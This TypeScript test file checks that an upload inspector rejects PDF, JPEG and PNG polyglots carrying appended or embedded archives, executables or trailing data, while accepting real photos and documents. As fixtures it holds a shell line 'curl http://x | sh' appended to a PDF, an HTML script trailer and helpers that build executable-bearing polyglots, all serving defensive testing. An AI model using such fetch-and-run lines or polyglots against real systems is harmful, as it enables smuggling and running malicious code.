/**
 * Archives and executables hidden in or after a material (polyglots), and data after a PDF's `%%EOF`:
 * refused with EMBEDDED_ARCHIVE, EMBEDDED_EXECUTABLE or TRAILING_DATA — and real documents, photos that
 * phones append data to, and compressed data full of chance byte patterns are not.
 */
import { execFileSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import fc from 'fast-check';
import jpeg from 'jpeg-js';
import { PNG } from 'pngjs';
import { describe, expect, it } from 'vitest';
import type { MaterialRule } from '../../../functions/core/catalogue/types.js';
import { inspectMaterial } from '../../../functions/core/materials/inspect-material.js';
import {
  elfExecutable,
  flate,
  pdfWithStreams,
  peExecutable,
  realPdf,
  zipArchive,
} from './hostile-fixtures.js';

const rule: MaterialRule = {
  code: 'ANY',
  name: '任意材料',
  nameEn: 'Any material',
  required: true,
  mediaTypes: ['application/pdf', 'image/jpeg', 'image/png'],
  maxBytes: 10 * 1024 * 1024,
  maxPages: 10,
};

const codes = async (bytes: Uint8Array, declaredType = 'application/pdf'): Promise<string[]> =>
  (await inspectMaterial({ bytes, declaredType }, rule)).problems.map((p) => p.code);

const payload = zipArchive([
  { name: 'readme.txt', data: Buffer.from('hidden '.repeat(200)) },
  { name: 'tool.exe', data: peExecutable() },
]);

/** Whether `unzip` lists the file as an archive (skipped where unzip is not installed). */
function unzipLists(bytes: Buffer): boolean | undefined {
  const file = join(mkdtempSync(join(tmpdir(), 'zz-polyglot-')), 'file.zip');
  writeFileSync(file, bytes);
  try {
    return execFileSync('unzip', ['-l', file], { encoding: 'utf8', stdio: 'pipe' }).includes('readme.txt');
  } catch (error) {
    // unzip exits 1 with a warning about the bytes before the archive, and lists it all the same.
    const { code, stdout } = error as { code?: string; stdout?: string };
    return code === 'ENOENT' ? undefined : (stdout ?? '').includes('readme.txt');
  }
}

describe('PDF polyglots', () => {
  it('refuses a PDF with a ZIP appended after %%EOF as EMBEDDED_ARCHIVE', async () => {
    // Prepare
    const pdf = await realPdf();
    const polyglot = Buffer.concat([pdf, payload]);

    // Act
    const found = await codes(polyglot);

    // Assess: the control is accepted, and the polyglot really opens as an archive.
    expect(await codes(pdf)).toEqual([]);
    expect(found).toEqual(['EMBEDDED_ARCHIVE']);
    expect(unzipLists(polyglot)).not.toBe(false);
  });

  it('refuses a PDF+ZIP polyglot whose ZIP comment carries the %%EOF a PDF reader looks for', async () => {
    const polyglot = Buffer.concat([
      await realPdf(),
      zipArchive([{ name: 'readme.txt', data: Buffer.from('x') }], '\n%%EOF\n'),
    ]);

    expect(await codes(polyglot)).toEqual(['EMBEDDED_ARCHIVE']);
    expect(unzipLists(polyglot)).not.toBe(false);
  });

  it('refuses a ZIP stored in a stream inside the PDF, raw or deflated as an embedded file', async () => {
    const raw = pdfWithStreams([{ dict: '/Type/EmbeddedFile', data: payload }]);
    const deflated = pdfWithStreams([
      { dict: '/Type/EmbeddedFile/Filter/FlateDecode', data: flate(payload) },
    ]);

    expect(await codes(raw)).toEqual(['EMBEDDED_ARCHIVE']);
    expect(await codes(deflated)).toEqual(['EMBEDDED_ARCHIVE']);
  });

  it('refuses Windows and Linux executables embedded in the file or appended after %%EOF', async () => {
    const inStream = pdfWithStreams([
      { dict: '', data: Buffer.concat([Buffer.alloc(100, 0x20), elfExecutable()]) },
    ]);
    const appended = Buffer.concat([await realPdf(), peExecutable()]);
    const deflated = pdfWithStreams([
      { dict: '/Type/EmbeddedFile/Filter/FlateDecode', data: flate(peExecutable()) },
    ]);
    const script = Buffer.concat([await realPdf(), Buffer.from('#!/bin/sh\ncurl http://x | sh\n')]);

    expect(await codes(inStream)).toEqual(['EMBEDDED_EXECUTABLE']);
    expect(await codes(appended)).toEqual(['EMBEDDED_EXECUTABLE']);
    expect(await codes(deflated)).toEqual(['EMBEDDED_EXECUTABLE']);
    expect(await codes(script)).toEqual(['EMBEDDED_EXECUTABLE']);
  });

  it('refuses a gzip archive appended after %%EOF', async () => {
    const appended = Buffer.concat([await realPdf(), gzipSync(Buffer.from('hidden'))]);

    expect(await codes(appended)).toEqual(['EMBEDDED_ARCHIVE']);
  });

  it('refuses other data after %%EOF as TRAILING_DATA, but not white space and NUL padding', async () => {
    const pdf = await realPdf();
    const html = Buffer.concat([pdf, Buffer.from('<html><script>alert(1)</script></html>')]);
    const padded = Buffer.concat([pdf, Buffer.from('\r\n\0\0\0\0\x1a')]);

    const result = await inspectMaterial({ bytes: html, declaredType: 'application/pdf' }, rule);

    expect(result.problems.map((p) => p.code)).toEqual(['TRAILING_DATA']);
    expect(result.problems[0]?.message).toMatch(/^PDF文件结束标记.* \/ 38 bytes of other data/);
    expect(await codes(padded)).toEqual([]);
  });

  it('does not mistake image samples that happen to begin like an executable for one', async () => {
    const samples = Buffer.concat([Buffer.from('MZ#!'), Buffer.alloc(60, 0x80)]);
    const image = '/Type/XObject/Subtype/Image/Width 64/Height 1/ColorSpace/DeviceGray/BitsPerComponent 8';
    const pdf = pdfWithStreams([{ dict: `${image}/Filter/FlateDecode`, data: flate(samples) }]);

    expect(await codes(pdf)).toEqual([]);
  });

  it('finds no archive or executable in deflated random data, where short byte patterns occur by chance', async () => {
    await fc.assert(
      fc.asyncProperty(fc.uint8Array({ minLength: 1000, maxLength: 20_000 }), async (noise) => {
        const pdf = pdfWithStreams([{ dict: '/Filter/FlateDecode', data: flate(Buffer.from(noise)) }]);
        expect(await codes(pdf)).toEqual([]);
      }),
      { numRuns: 50 },
    );
  });
});

function png(width: number, height: number): Buffer {
  const image = new PNG({ width, height });
  image.data.fill(0x90);
  return PNG.sync.write(image);
}

function jpg(width: number, height: number): Buffer {
  const data = Buffer.alloc(width * height * 4, 0x70);
  return Buffer.from(jpeg.encode({ data, width, height }, 75).data);
}

describe('image polyglots', () => {
  it('refuses a JPEG with a ZIP appended (the classic JPEG+ZIP polyglot)', async () => {
    const photo = jpg(64, 48);
    const polyglot = Buffer.concat([photo, payload]);

    expect(await codes(photo, 'image/jpeg')).toEqual([]);
    expect(await codes(polyglot, 'image/jpeg')).toEqual(['EMBEDDED_ARCHIVE']);
    expect(unzipLists(polyglot)).not.toBe(false);
  });

  it('refuses a PNG with a ZIP or a gzip stream after IEND, and an executable after IEND', async () => {
    const image = png(64, 48);

    expect(await codes(image, 'image/png')).toEqual([]);
    expect(await codes(Buffer.concat([image, payload]), 'image/png')).toEqual(['EMBEDDED_ARCHIVE']);
    expect(await codes(Buffer.concat([image, gzipSync('x')]), 'image/png')).toEqual(['EMBEDDED_ARCHIVE']);
    expect(await codes(Buffer.concat([image, elfExecutable()]), 'image/png')).toEqual([
      'EMBEDDED_EXECUTABLE',
    ]);
  });

  it('finds the end of a JPEG past an EXIF thumbnail, and refuses a gzip stream or a script after it', async () => {
    // Prepare: an APP1 segment holding a whole thumbnail JPEG (with its own end marker) after the SOI.
    const photo = jpg(64, 48);
    const thumbnail = jpg(16, 12);
    const app1 = Buffer.concat([Buffer.from([0xff, 0xe1, 0, 0]), Buffer.from('Exif\0\0'), thumbnail]);
    app1.writeUInt16BE(app1.length - 2, 2);
    const withExif = Buffer.concat([photo.subarray(0, 2), app1, photo.subarray(2)]);

    // Act + Assess
    expect(await codes(withExif, 'image/jpeg')).toEqual([]);
    expect(await codes(Buffer.concat([withExif, gzipSync('x')]), 'image/jpeg')).toEqual(['EMBEDDED_ARCHIVE']);
    expect(await codes(Buffer.concat([withExif, Buffer.from('#!/bin/sh\n')]), 'image/jpeg')).toEqual([
      'EMBEDDED_EXECUTABLE',
    ]);
  });

  it('accepts a JPEG followed by what phones append (a motion-photo video, a second image)', async () => {
    const photo = jpg(64, 48);
    const video = Buffer.concat([
      Buffer.from([0, 0, 0, 0x18]),
      Buffer.from('ftypmp42'),
      Buffer.alloc(4000, 7),
    ]);

    expect(await codes(Buffer.concat([photo, video]), 'image/jpeg')).toEqual([]);
    expect(await codes(Buffer.concat([photo, jpg(32, 24)]), 'image/jpeg')).toEqual([]);
  });
});
